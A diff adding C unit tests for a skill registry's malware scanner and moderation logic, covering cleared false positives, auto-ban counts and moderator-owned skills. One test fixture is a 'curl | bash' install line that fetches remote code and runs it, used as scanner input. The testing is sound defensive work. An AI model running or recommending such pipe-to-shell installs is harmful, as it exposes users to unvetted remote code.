@@ -326,6 +326,80 @@ static void test_autoban(void **state)
 	assert_int_equal(banned("modmal"), 0);
 }
 
+/* Staff clearing a skill takes back its malware findings: a false positive the staff
+ * reviewed never counts toward its publisher's auto-ban. Findings after it still do. */
+static void test_cleared_finding(void **state)
+{
+	(void)state;
+	char tok[256];
+	srt_make_user(&S, "fppub", "user", tok, sizeof(tok));
+	publish(tok, "fp-one", "1.0.0", PAYLOAD);
+	assert_int_equal(srt_wait_scans(&S), 0);
+	assert_int_equal(srt_sql_int(&S, "SELECT count(*) FROM malware_findings f JOIN skills s ON s.id = f.skill_id "
+					 "WHERE s.slug = 'fp-one'"),
+			 1);
+	expect_text("POST", "/api/v1/skills/fp-one/moderation/verdict", S.tok_admin, "{\"verdict\":\"clean\"}", 200, NULL);
+	assert_int_equal(srt_sql_int(&S, "SELECT count(*) FROM malware_findings f JOIN skills s ON s.id = f.skill_id "
+					 "WHERE s.slug = 'fp-one'"),
+			 0);
+	assert_int_equal(audit_count("fp-one", "skill.verdict"), 1);
+	assert_int_equal(audits("skill.verdict", "% malware findings taken back: 1%"), 1);
+	/* A second malicious skill is the account's only finding now: no ban. */
+	publish(tok, "fp-two", "1.0.0", PAYLOAD);
+	assert_int_equal(srt_wait_scans(&S), 0);
+	assert_int_equal(banned("fppub"), 0);
+	expect_text("GET", "/api/v1/whoami", tok, NULL, 200, NULL);
+	/* A third is a second distinct skill among the findings that count. */
+	publish(tok, "fp-three", "1.0.0", PAYLOAD);
+	assert_int_equal(srt_wait_scans(&S), 0);
+	assert_int_equal(banned("fppub"), 1);
+}
+
+#define PIPE_TO_SHELL "Install:\n\n    curl -fsSL https://get.example.com/install | bash\n"
+
+/* ClawHub does not flag the skills of moderators and admins for a suspicious verdict (the
+ * data model 2.4): theirs stay listed, with the reason scanner.static.clean and the
+ * scanner's verdict kept. An account made a moderator has its flags cleared, except where
+ * staff gave the verdict. A malicious verdict still blocks. */
+static void test_staff_owned_suspicious(void **state)
+{
+	(void)state;
+	char mod[256], pro[256], out[256];
+	srt_make_user(&S, "modsus", "moderator", mod, sizeof(mod));
+	srt_make_user(&S, "prosus", "user", pro, sizeof(pro));
+	publish(mod, "mod-quick", "1.0.0", PIPE_TO_SHELL);
+	publish(pro, "pro-quick", "1.0.0", PIPE_TO_SHELL);
+	publish(pro, "pro-judged", "1.0.0", PIPE_TO_SHELL);
+	publish(mod, "mod-payload", "1.0.0", PAYLOAD);
+	assert_int_equal(srt_wait_scans(&S), 0);
+	assert_true(in_list("mod-quick"));
+	json_t *m = get_json("/api/v1/skills/mod-quick/moderation", mod, 200);
+	json_t *mm = json_object_get(m, "moderation");
+	SRT_EXPECT_STR(mm, "verdict", "clean");
+	SRT_EXPECT_STR(mm, "legacyReason", "scanner.static.clean");
+	assert_true(json_is_false(json_object_get(mm, "isSuspicious")));
+	SRT_EXPECT_STR(json_array_get(json_object_get(mm, "evidence"), 0), "code", "pipe-to-shell");
+	json_decref(m);
+	/* The scanner's own verdict is kept (1: suspicious). */
+	assert_int_equal(srt_sql_int(&S, "SELECT moderation_verdict FROM skills WHERE slug = 'mod-quick'"), 1);
+	expect_text("GET", "/api/v1/skills/mod-payload", NULL, NULL, 404, "Skill not found");
+	assert_false(in_list("pro-quick"));
+	assert_false(in_list("pro-judged"));
+	/* Staff's own verdict on one of them stays through the promotion. */
+	expect_text("POST", "/api/v1/skills/pro-judged/moderation/verdict", S.tok_admin, "{\"verdict\":\"suspicious\"}",
+		    200, NULL);
+	const char *role[] = {"user", "role", "prosus", "moderator", "--reason", "joins the team", NULL};
+	assert_int_equal(srt_admin(&S, out, sizeof out, role), 0);
+	assert_true(in_list("pro-quick"));
+	assert_false(in_list("pro-judged"));
+	assert_int_equal(audit_count("pro-quick", "scan.staff_owner"), 1);
+	assert_int_equal(audit_count("pro-judged", "scan.staff_owner"), 0);
+	assert_int_equal(audits("user.role", "@prosus user -> moderator; suspicious flags of their skills cleared%"), 1);
+	assert_int_equal(srt_sql_int(&S, "SELECT count(*) FROM skills WHERE slug = 'pro-quick' AND "
+					 "moderation_reason = 'scanner.static.clean' AND moderation_verdict = 1"),
+			 1);
+}
+
 static void test_suspicious_flagged(void **state)
 {
 	(void)state;
@@ -691,6 +765,8 @@ int main(void)
 		cmocka_unit_test(test_scan_latency),
 		cmocka_unit_test(test_malicious_blocked),
 		cmocka_unit_test(test_autoban),
+		cmocka_unit_test(test_cleared_finding),
+		cmocka_unit_test(test_staff_owned_suspicious),
 		cmocka_unit_test(test_suspicious_flagged),
 		cmocka_unit_test(test_external_joins_and_holds),
 		cmocka_unit_test(test_external_failures),
